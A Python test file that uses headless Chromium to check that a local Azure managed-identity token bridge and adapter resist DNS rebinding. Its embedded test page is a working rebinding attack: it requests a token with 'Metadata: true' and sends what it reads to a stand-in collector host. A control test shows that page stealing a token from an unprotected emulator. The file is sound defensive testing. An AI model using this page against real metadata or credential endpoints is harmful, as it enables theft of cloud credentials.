"""DNS rebinding, in a real browser: a web page cannot read a token from ``legacy-msi serve``.

A page is loaded from ``http://evil.test:PORT/`` (Chromium's ``--host-resolver-rules`` sends
that name to 127.0.0.1). Then the page's server goes away and the bridge takes its port:
for the browser, the bridge is now same-origin with the page, exactly as after a DNS
rebinding attack, so the page's ``fetch`` may set ``Metadata: true`` without a preflight and
read the answer. The page tries ``fetch``, ``XMLHttpRequest`` and a form, and reports what it
read to a collector. The control runs the same page against a server without the bridge's
checks (the emulator), and the page does read a token there: the browser is not what stops it.

The same holds for ``legacy-msi adapt`` by both its protocols, for a page that knows the
adapter's secret: App Service's with ``X-IDENTITY-HEADER``, IMDS's with ``Metadata: true``,
from the page's own origin (rebound, or a page once served from the loopback port the adapter
now holds, where only the browser headers give it away) and from another origin.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Optional
from urllib.parse import parse_qsl, urlsplit

import pytest
from azure.core.credentials import AccessToken

from legacy_msi_credential.adapt import Adapter, Secret
from legacy_msi_credential.bridge import Bridge, TokenSource
from legacy_msi_credential.emulator import Emulator

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SECRET = "eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJhcHBpZCI6ImJyb3dzZXItdGVzdCJ9.c2VjcmV0LXNpZ25hdHVyZQ"

PAGE = """<!doctype html><title>rebinding</title><iframe name="sink"></iframe>
<form id="form" method="POST" action="/oauth2/token" target="sink">
<input name="resource" value="https://management.azure.com/"></form>
<script>
const collector = "http://collector.test:COLLECTOR";
const plan = PLAN;
const report = (what) => fetch(collector + "/report?" + new URLSearchParams(what), {mode: "no-cors"});
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
// Same origin as the page (a relative URL), or another origin naming the same port.
const other = location.hostname === "127.0.0.1" ? "localhost" : "127.0.0.1";
const where = (step) => step.cross ? "http://" + other + ":" + location.port + step.path : step.path;
async function attack() {
  const out = {};
  for (const step of plan) {
    const name = step.name, url = where(step);
    try {
      const answer = await fetch(url, {headers: step.headers});
      out[name + "fetch_status"] = answer.status;
      out[name + "fetch_body"] = (await answer.text()).slice(0, 3000);
    } catch (error) { out[name + "fetch_error"] = String(error); }
    await new Promise((done) => {
      const xhr = new XMLHttpRequest();
      xhr.open("GET", url);
      for (const [key, value] of Object.entries(step.headers)) xhr.setRequestHeader(key, value);
      xhr.onload = () => {
        out[name + "xhr_status"] = xhr.status;
        out[name + "xhr_body"] = xhr.responseText.slice(0, 3000);
        done();
      };
      xhr.onerror = () => { out[name + "xhr_error"] = "network error"; done(); };
      xhr.send();
    });
  }
  const frame = document.querySelector("iframe");
  await new Promise((done) => { frame.onload = done; document.getElementById("form").submit(); });
  try { out.form_body = frame.contentDocument.body.innerText.slice(0, 3000); }
  catch (error) { out.form_error = String(error); }
  await report({phase: "result", result: JSON.stringify(out)});
}
(async () => {
  await report({phase: "loaded"});
  for (let i = 0; i < 600; i++) {
    const go = await fetch(collector + "/go").then((r) => r.text()).catch(() => "");
    if (go === "go") { await attack(); return; }
    await sleep(100);
  }
})();
</script>"""


class Collector(http.server.ThreadingHTTPServer):
    """Records the page's reports; answers ``/go`` once the target has taken the page's port."""

    daemon_threads = True

    def __init__(self) -> None:
        self.reports: list[dict[str, str]] = []
        self.go = threading.Event()
        self.arrived = threading.Condition()
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                return None

            def do_GET(self) -> None:
                url = urlsplit(self.path)
                if url.path == "/report":
                    with collector.arrived:
                        collector.reports.append(dict(parse_qsl(url.query)))
                        collector.arrived.notify_all()
                body = b"go" if url.path == "/go" and collector.go.is_set() else b"wait"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        super().__init__(("127.0.0.1", 0), Handler)

    def wait_for(self, phase: str, timeout: float) -> Optional[dict[str, str]]:
        deadline = time.monotonic() + timeout
        with self.arrived:
            while True:
                found = next((r for r in self.reports if r.get("phase") == phase), None)
                if found is not None or time.monotonic() > deadline:
                    return found
                self.arrived.wait(0.2)


#: What the page tries by default: the legacy protocol, with the header its clients send.
LEGACY_PLAN = [{"name": "", "path": "/oauth2/token?resource=https%3A%2F%2Fmanagement.azure.com%2F",
                "headers": {"Metadata": "true"}}]  # fmt: skip


def serve_page(port: int, collector_port: int, plan: list[dict[str, Any]]) -> http.server.ThreadingHTTPServer:
    page = PAGE.replace("COLLECTOR", str(collector_port)).replace("PLAN", json.dumps(plan)).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            return None

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(page)

    http.server.ThreadingHTTPServer.allow_reuse_address = True
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class StandIn:
    def __call__(self, *args: Any) -> StandIn:
        return self

    def get_token(self, *scopes: str) -> AccessToken:
        return AccessToken(SECRET, int(time.time()) + 3600)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def browser_run(tmp_path: Path) -> Iterator[Any]:
    if CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("CI installs Debian's chromium (scripts/setup.sh)")
        pytest.skip("needs Debian's chromium")
    collector = Collector()
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    processes: list[subprocess.Popen[bytes]] = []

    def run(start_target: Any, plan: list[dict[str, Any]] = LEGACY_PLAN, origin: str = "evil.test") -> dict[str, Any]:
        """Load the page from ``http://ORIGIN:PORT/``, put ``start_target(PORT)`` in its place,
        let the page try each step of ``plan`` by fetch and XMLHttpRequest, and return what it read."""
        port = free_port()
        page = serve_page(port, collector.server_address[1], plan)
        rules = "MAP evil.test 127.0.0.1, MAP collector.test 127.0.0.1"
        process = subprocess.Popen(
            [
                str(CHROMIUM),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults",
                f"--host-resolver-rules={rules}",
                f"--user-data-dir={tmp_path / 'profile'}",
                f"http://{origin}:{port}/",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        processes.append(process)
        loaded = collector.wait_for("loaded", 60)
        assert loaded is not None, "the page never loaded"
        page.shutdown()
        page.server_close()
        target = start_target(port)  # the same origin, now answered by the target
        try:
            collector.go.set()
            result = collector.wait_for("result", 60)
        finally:
            target.stop()
        assert result is not None, "the page never reported"
        parsed: dict[str, Any] = json.loads(result["result"])
        return parsed

    yield run
    for process in processes:
        process.kill()
        process.wait(10)
    collector.shutdown()
    collector.server_close()


def test_a_page_reads_a_token_from_a_server_without_the_checks(browser_run: Any) -> None:
    """The control: the emulator (a faithful stand-in for the extension, with no browser checks)."""
    seen: list[Emulator] = []

    def start(port: int) -> Emulator:
        emulator = Emulator(port=port, ipv6=False).start()
        seen.append(emulator)
        return emulator

    result = browser_run(start)
    assert result.get("fetch_status") == 200, result
    token = json.loads(result["fetch_body"])["access_token"]
    assert token == seen[0].minted_tokens[0]  # the page read it: this is what the bridge must prevent
    assert result.get("xhr_status") == 200


def test_a_page_cannot_read_a_token_from_the_bridge(browser_run: Any) -> None:
    bridges: list[Bridge] = []

    def start(port: int) -> Bridge:
        bridge = Bridge(port=port, source=TokenSource("imds", credential_factory=StandIn())).start()
        bridges.append(bridge)
        return bridge

    result = browser_run(start)
    text = json.dumps(result)
    assert SECRET not in text
    assert SECRET.split(".")[1] not in text
    assert result.get("fetch_status") == 401, result  # the bridge answered, and refused
    assert json.loads(result["fetch_body"])["error"] in ("unknown_source", "unauthorized_client")
    assert result.get("xhr_status") == 401
    assert "access_token" not in result.get("form_body", "")
    assert bridges[0].source.requests == 0  # refused before the source was asked


# --- legacy-msi adapt: a page that knows the secret still reads no token ----------------------

#: The adapter's secret, as a page would have it if it had read the environment file.
ADAPT_SECRET = Secret("browser-test-secret-0123456789-abcdefghijklmn")
_APP_SERVICE = "/msi/token?api-version=2019-08-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
_IMDS = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
#: Each protocol with the header its clients send, from the page's own origin (no preflight:
#: the server is same-origin for the browser) and from another origin (a preflight first).
ADAPT_PLAN = [
    {"name": f"{protocol}_{where}_", "path": path, "headers": headers, "cross": where == "cross"}
    for protocol, path, headers in (
        ("app", _APP_SERVICE, {"X-IDENTITY-HEADER": ADAPT_SECRET.reveal()}),
        ("imds", _IMDS, {"Metadata": "true"}),
    )
    for where in ("same", "cross")
]


@pytest.mark.parametrize(
    "origin",
    [
        "evil.test",  # DNS rebinding: the page's name now resolves to loopback (Host: evil.test:PORT)
        "127.0.0.1",  # a page once served on the port the adapter now holds (Host: 127.0.0.1:PORT)
    ],
)
def test_a_page_that_knows_the_secret_cannot_read_a_token_from_the_adapter(browser_run: Any, origin: str) -> None:
    """By App Service's protocol with the secret and by IMDS's with ``Metadata: true``, from the
    page's origin and from another: every answer the page can read is a refusal, and the
    extension is never asked. From another origin the browser's preflight is refused first."""
    with Emulator(port=0, ipv6=False) as extension:
        adapters: list[Adapter] = []

        def start(port: int) -> Adapter:
            adapter = Adapter(port=port, secret=ADAPT_SECRET, endpoint=extension.endpoint).start()
            adapters.append(adapter)
            return adapter

        result = browser_run(start, ADAPT_PLAN, origin)
        text = json.dumps(result)
        assert "access_token" not in text, result
        for protocol in ("app", "imds"):
            same, cross = f"{protocol}_same_", f"{protocol}_cross_"
            assert result.get(same + "fetch_status") == 401, result  # the adapter answered, and refused
            assert json.loads(result[same + "fetch_body"])["error"] in ("unknown_source", "unauthorized_client")
            assert result.get(same + "xhr_status") == 401, result
            assert "fetch_status" not in json.dumps({k: v for k, v in result.items() if k.startswith(cross)})
            assert cross + "fetch_error" in result, result  # the preflight was refused: nothing to read
            assert cross + "xhr_error" in result, result
        assert adapters[0].source.requests == 0  # refused before the extension was asked
        assert extension.minted_tokens == []
